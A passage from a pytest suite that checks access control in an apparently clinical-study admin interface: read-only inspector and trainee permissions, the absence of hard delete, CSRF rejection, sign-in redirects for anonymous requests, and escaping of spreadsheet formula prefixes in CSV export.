        assert csv_safe(prefix + "1+1") == "'" + prefix + "1+1"
    assert csv_safe("plain") == "plain" and csv_safe(42) == 42 and csv_safe(None) is None


# -- read-only users and the absence of delete ------------------------------------------------


@pytest.mark.req("P11-04", "SEC-02")
def test_inspector_can_view_but_not_change(app, db, make_user, login, study):
    make_user("ivan", "inspector")
    bob = make_user("bob", "trainee")
    grant = bob.active_assignments()[0]
    client = app.test_client()
    login(client, "ivan")
    for url in ("/admin/", "/admin/core_users/", f"/admin/core_users/details/?id={bob.id}",
                "/admin/core_assignments/", "/admin/core_roles/", "/admin/core_studies/",
                "/admin/core_sites/", "/admin/core_audit/"):
        assert client.get(url).status_code == 200, url
    for url in ("/admin/core_audit/export.csv", "/admin/core_users/export.csv"):
        assert post_with_token(client, url).status_code == 200, url
    body = client.get(f"/admin/core_users/details/?id={bob.id}").get_data(as_text=True)
    assert 'id="deactivate"' not in body and "Grant a role" not in body
    assert f'id="revoke-{grant.id}"' not in client.get("/admin/core_assignments/").get_data(
        as_text=True)
    assert "/admin/core_users/new/" not in client.get("/admin/core_users/").get_data(as_text=True)

    for url in ("/admin/core_users/new/", f"/admin/core_users/edit/?id={bob.id}",
                "/admin/core_assignments/new/", "/admin/core_roles/new/",
                f"/admin/core_roles/edit/?id={role(db, 'inspector').id}",
                "/admin/core_studies/new/", f"/admin/core_studies/edit/?id={study.id}",
                "/admin/core_sites/new/", "/admin/core_plugins/", "/admin/core_settings/"):
        assert client.get(url).status_code == 403, url

    users, grants, audits = count(db, User), count(db, UserRole), audit_count(db)
    csrf = token(client)
    writes = [
        ("/admin/core_users/new/", {"username": "zed", "full_name": "Zed", "reason": "x",
                                    "initial_password": NEW_PASSWORD}),
        (f"/admin/core_users/edit/?id={bob.id}", {"full_name": "Hacked", "reason": "x"}),
        (f"/admin/core_users/{bob.id}/deactivate", {"reason": "x"}),
        (f"/admin/core_users/{bob.id}/unlock", {"reason": "x"}),
        (f"/admin/core_assignments/{grant.id}/revoke", {"reason": "x"}),
        ("/admin/core_assignments/new/", {"user_id": bob.id, "role_id": role(db, "qa_manager").id,
                                          "reason": "x"}),
        ("/admin/core_studies/new/", {"code": "NEW", "title": "x", "reason": "x"}),
        (f"/admin/core_studies/edit/?id={study.id}",
         {"code": "S-001", "title": "x", "reason": "x"}),
        ("/admin/core_plugins/documents/disable", {"reason": "x"}),
    ]
    for url, data in writes:
        assert client.post(url, data={"csrf_token": csrf, **data}).status_code == 403, url
    db.session.expire_all()
    assert (count(db, User), count(db, UserRole), audit_count(db)) == (users, grants, audits)
    assert bob.active and bob.full_name == "Bob Tester" and grant.revoked_at is None
    assert study.title == "Phase II in asthma"


@pytest.mark.plugins("documents", "training", "capa", "audits")
@pytest.mark.req("P11-04")
def test_trainee_is_refused_every_admin_area_but_the_dashboard_and_studies(app, make_user, login):
    make_user("tina", "trainee")
    client = app.test_client()
    login(client, "tina")
    assert client.get("/admin/").status_code == 200
    assert client.get("/admin/core_studies/").status_code == 200
    for url in ("/admin/core_users/", "/admin/core_assignments/", "/admin/core_roles/",
                "/admin/core_audit/", "/admin/core_plugins/", "/admin/documents_settings/"):
        assert client.get(url).status_code == 403, url
    assert post_with_token(client, "/admin/core_users/export.csv").status_code == 403


@pytest.mark.req("P11-03", "P11-18")
@pytest.mark.parametrize("view", MODEL_VIEWS)
def test_no_hard_delete_through_the_admin(client, admin, db, make_user, study, view):
    bob = make_user("bob", "trainee")
    ids = {"core_users": bob.id, "core_assignments": bob.active_assignments()[0].id,
           "core_roles": role(db, "trainee").id, "core_studies": study.id,
           "core_sites": study.sites[0].id}
    model = {"core_users": User, "core_assignments": UserRole, "core_roles": Role,
             "core_studies": Study, "core_sites": Site}[view]
    rows, grants, audits = count(db, model), count(db, RolePermission), audit_count(db)

    listing = client.get(f"/admin/{view}/").get_data(as_text=True)
    assert f"/admin/{view}/delete/" not in listing  # no delete button or bulk action
    assert 'value="delete"' not in listing

    csrf = token(client)
    response = client.post(f"/admin/{view}/delete/", data={"csrf_token": csrf, "id": ids[view]})
    assert response.status_code == 405
    response = client.post(f"/admin/{view}/action/",
                           data={"csrf_token": csrf, "action": "delete", "rowid": ids[view]})
    assert response.status_code in (302, 303)
    db.session.expire_all()
    assert count(db, model) == rows
    assert db.session.get(model, ids[view]) is not None
    assert count(db, RolePermission) == grants
    assert audit_count(db) == audits


@pytest.mark.plugins("documents", "capa", "audits")
@pytest.mark.req("SEC-03")
@pytest.mark.backends("sqlite", "postgresql")
def test_admin_writes_without_csrf_token_are_refused(client, admin, db, make_user):
    bob = make_user("bob", "trainee")
    users, audits = count(db, User), audit_count(db)
    for url, data in [
        ("/admin/core_users/new/", {"username": "zed", "full_name": "Zed", "reason": "x",
                                    "initial_password": NEW_PASSWORD}),
        (f"/admin/core_users/{bob.id}/deactivate", {"reason": "x"}),
        ("/admin/documents_settings/", {"documents.review_interval_months": "36", "reason": "x"}),
        ("/admin/core_plugins/documents/disable", {"reason": "x"}),
    ]:
        assert client.post(url, data=data).status_code == 400, url
        assert client.post(url, data={**data, "csrf_token": "forged"}).status_code == 400, url
    db.session.expire_all()
    assert (count(db, User), audit_count(db), bob.active) == (users, audits, True)
    assert count(db, Setting) == 0


@pytest.mark.plugins("documents", "training", "capa", "audits")
@pytest.mark.req("SEC-01", "P11-04")
def test_anonymous_requests_to_admin_pages_go_to_sign_in(app, client):
    checked = 0
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/admin") or rule.endpoint == "admin.static":
            continue
        url = rule.rule.replace("<any(enable, disable):action>", "enable")
        url = re.sub(r"<[^>]+>", "1", url)
        method = "GET" if "GET" in rule.methods else "POST"
        response = client.open(url, method=method)
        if method == "GET":
            assert response.status_code == 302, url
            assert response.headers["Location"].startswith("/login?next="), url
        else:  # CSRF is checked first; either way nothing runs
            assert response.status_code in (302, 400), url
        checked += 1
    assert checked > 40
